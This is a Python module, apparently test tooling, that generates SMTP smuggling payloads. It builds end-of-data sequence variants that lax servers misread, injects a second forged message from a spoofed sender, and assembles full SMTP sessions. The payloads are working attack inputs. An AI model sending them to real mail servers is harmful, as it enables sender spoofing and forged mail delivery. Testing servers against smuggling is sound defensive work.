"""What is put into messages to have one taken for two (SMTP smuggling), and messages of it.

Every trick stands in a message and is followed by the commands of a second one.
"""

import itertools

LINE_ENDS = [b"\r\n", b"\n", b"\r"]
# A lax server takes each of these for the end of the data. The last ones are for servers that throw
# NULs away before they look.
ENDS = [before + b"." + behind for before, behind in itertools.product(LINE_ENDS, LINE_ENDS)
        if (before, behind) != (b"\r\n", b"\r\n")]
ENDS += [b"\r\r\n.\r\r\n", b"\r\n.\r\r\n", b"\n\n.\n\n", b"\r\r.\r\r", b"\n\r.\n\r", b"\r\n\r.\r\n",
         b"\r\n\n.\r\n", b"\r\n.\n\r\n", b"\r\n\0.\r\n", b"\r\n\0\0.\r\n", b"\r\n.\0\r\n",
         b"\r\n\0.\0\r\n", b"\r\n.\r\0\n", b"\r\0\n.\r\0\n", b"\n\0.\n", b"\n.\0\n", b"\r\0.\r",
         b"\n\0.\r\n", b"\r\n\0.\r", b"\r\n\0.\n"]
# What is none, even there; it must arrive as it is.
OTHERS = [b"\n..\n", b"\r\n..\r\n", b"\r..\r", b"\r\n..\n", b"\r\n..\r", b"\n..\r\n", b"\n. \n",
          b"\r\n. \r\n", b"\r\n .\r\n", b"\v.\v", b"\f.\f", b"\x85.\x85", b"\x1e.\x1e", b"\x1a",
          b"\xe2\x80\xa8.\xe2\x80\xa8", b"\r\n=2E\r\n", b"\b.\b", b"\n.\x7f\n", b"\r\n.\t\r\n"]
TRICKS = ENDS + OTHERS
SECOND = [b"MAIL FROM:<evil@x.example>", b"RCPT TO:<victim@friend.example>", b"DATA",
          b"Subject: smuggled", b"", b"smuggled"]


def tricky_body(trick, eol, before=b"Subject: one%(eol)s%(eol)sbefore"):
    """A body, stuffed already where it is meant to be, with its last line end."""
    return before.replace(b"%(eol)s", eol) + trick + eol.join(SECOND) + trick + b"after" + eol


def is_one_body(body, eol):
    """False where the trick is no trick: it is how this input ends its data."""
    return eol + b"." + eol not in eol + body


def one_message(body, eol):
    head = [b"MAIL FROM:<alice@here.example>", b"RCPT TO:<bob@friend.example>", b"DATA", b""]
    return eol.join(head) + body + b"." + eol


def session_of(bodies, eol):
    return b"EHLO here.example" + eol + b"".join(one_message(body, eol) for body in bodies) + b"QUIT" + eol


def bodies_with(tricks, eol, **arguments):
    bodies = [tricky_body(trick, eol, **arguments) for trick in tricks]
    return [body for body in bodies if is_one_body(body, eol)]


def bodies_at_every_place(eol):
    """Every trick at the start, in the headers, inside and at the end of a body."""
    starts = [trick.lstrip(b"\r\n") for trick in TRICKS] + TRICKS
    ends = [b"Subject: end" + eol + eol + b"text" + trick + eol for trick in TRICKS]
    return {"start": bodies_with(starts, eol, before=b""),
            "headers": bodies_with(TRICKS, eol, before=b"X-One: 1%(eol)sSubject: two"),
            "inside": bodies_with(TRICKS, eol),
            "end": [body for body in ends if is_one_body(body, eol)]}


def bodies_across(border, tricks, eol):
    """Bodies whose trick lies across that octet, at every shift."""
    head = b"Subject: border" + eol + eol
    filler = head + (b"x" * 62 + eol) * (border // 60)
    return [body for trick in tricks for shift in range(len(trick) + 1)
            for body in bodies_with([trick], eol, before=filler[:border - shift])]
